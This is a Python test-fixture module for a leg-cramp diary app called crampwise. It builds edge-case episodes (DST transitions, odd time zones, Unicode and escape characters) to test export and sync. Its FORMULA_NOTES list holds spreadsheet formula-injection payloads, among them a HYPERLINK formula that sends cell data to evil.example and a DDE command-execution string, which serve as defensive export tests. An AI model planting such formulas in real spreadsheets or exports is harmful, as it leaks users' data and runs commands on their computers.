from __future__ import annotations

from collections.abc import Iterator
from datetime import date, datetime, timedelta, timezone
from pathlib import Path
from typing import Any

import pytest

from crampwise.domain.episode import Episode, StepUse
from crampwise.domain.profile import HealthProfile, Medication
from crampwise.domain.vocab import Location, Side
from crampwise.exchange.codec import episode_to_dict
from crampwise.storage.store import EpisodeStore

BERLIN_WINTER = timezone(timedelta(hours=1))
BERLIN_SUMMER = timezone(timedelta(hours=2))  # DST began at 02:00 on 29 March 2026
KATHMANDU = timezone(timedelta(hours=5, minutes=45))
ST_JOHNS = timezone(timedelta(hours=-2, minutes=-30))
UTC0 = timezone(timedelta(0))

FORMULA_NOTES = (
    '=HYPERLINK("http://evil.example/?"&A1,"Click for help")',
    "+1",
    "-3",
    "@x",
    "\tstarts with a tab",
    "\rstarts with a carriage return",
    "'already quoted",
    "''",
    "=cmd|' /C calc'!A0",
)


def tricky_episodes() -> list[Episode]:
    """Data that breaks naive exporters: scripts, separators, formulas, DST, odd offsets."""
    base = datetime(2026, 3, 29, 1, 59, 30, 123456, tzinfo=BERLIN_WINTER)
    episodes = [
        Episode(
            started_at=base,
            ended_at=datetime(2026, 3, 29, 3, 1, tzinfo=BERLIN_SUMMER),  # across the DST jump
            side=Side.LEFT,
            locations=frozenset({Location.CALF, Location.TOES}),
            intensity=10,
            woke_from_sleep=True,
            minutes_to_sleep_again=0,
            steps=(
                StepUse("calf_stretch", True),
                StepUse("massage", False),
                StepUse("heat", None),
                StepUse("odd;id:with\\escapes", True),
            ),
            helped=False,
            tags=frozenset({"alcohol", "a;b", "-minus", "=sum(1)", "'quote", "back\\slash"}),
            red_flags=frozenset({"over_10_minutes", "one_leg_swelling"}),
            note='Woke up 🦵💥, "quotes", commas, and\r\nnew lines\nand a lone \r too',
        ),
        Episode(  # ongoing, nothing else known
            started_at=datetime(2026, 11, 26, 3, 10, tzinfo=KATHMANDU),
        ),
        Episode(
            started_at=datetime(2026, 7, 1, 23, 59, 59, tzinfo=ST_JOHNS),
            ended_at=datetime(2026, 7, 2, 4, 29, 59, tzinfo=UTC0),
            side=Side.BOTH,
            locations=frozenset(Location),
            intensity=0,
            woke_from_sleep=False,
            minutes_to_sleep_again=1440,
            note="تقلص عضلي في الساق — שלום — right-to-left ‏mark‏",
        ),
        Episode(
            started_at=datetime(2026, 10, 25, 2, 30, tzinfo=BERLIN_SUMMER),
            ended_at=datetime(2026, 10, 25, 2, 35, tzinfo=BERLIN_WINTER),  # the repeated hour
            side=Side.RIGHT,
            intensity=5,
            note="",
        ),
    ]
    start = datetime(2026, 11, 1, 4, 0, tzinfo=BERLIN_WINTER)
    for n, note in enumerate(FORMULA_NOTES):
        episodes.append(
            Episode(
                started_at=start + timedelta(days=n),
                ended_at=start + timedelta(days=n, minutes=2),
                note=note,
                steps=(StepUse(note.strip() or "x"),),
            )
        )
    return episodes


def tricky_profile() -> HealthProfile:
    return HealthProfile(
        conditions=frozenset({"pad", "diabetes", "pregnancy"}),
        medications=(
            Medication("Lasix", "loop_diuretic", date(2026, 9, 1), None),
            Medication("Kräutertee ☕ «bio»", None, None, None),
            Medication("simvastatin", "statin", date(2025, 1, 1), date(2026, 3, 1)),
        ),
    )


def fill(store: EpisodeStore, episodes: list[Episode]) -> list[Episode]:
    return [store.add(ep) for ep in episodes]


def snapshot(store: EpisodeStore) -> tuple[list[dict[str, Any]], HealthProfile]:
    return [episode_to_dict(e) for e in store.episodes()], store.profile()


@pytest.fixture
def empty_store(tmp_path: Path) -> Iterator[EpisodeStore]:
    """A second, empty diary (another computer)."""
    opened = EpisodeStore.open(tmp_path / "elsewhere" / "crampwise.sqlite3")
    yield opened
    opened.close()


def run_cli(*argv: str) -> int:
    """``crampwise ARGV``."""
    from crampwise.cli import main

    return main(list(argv))
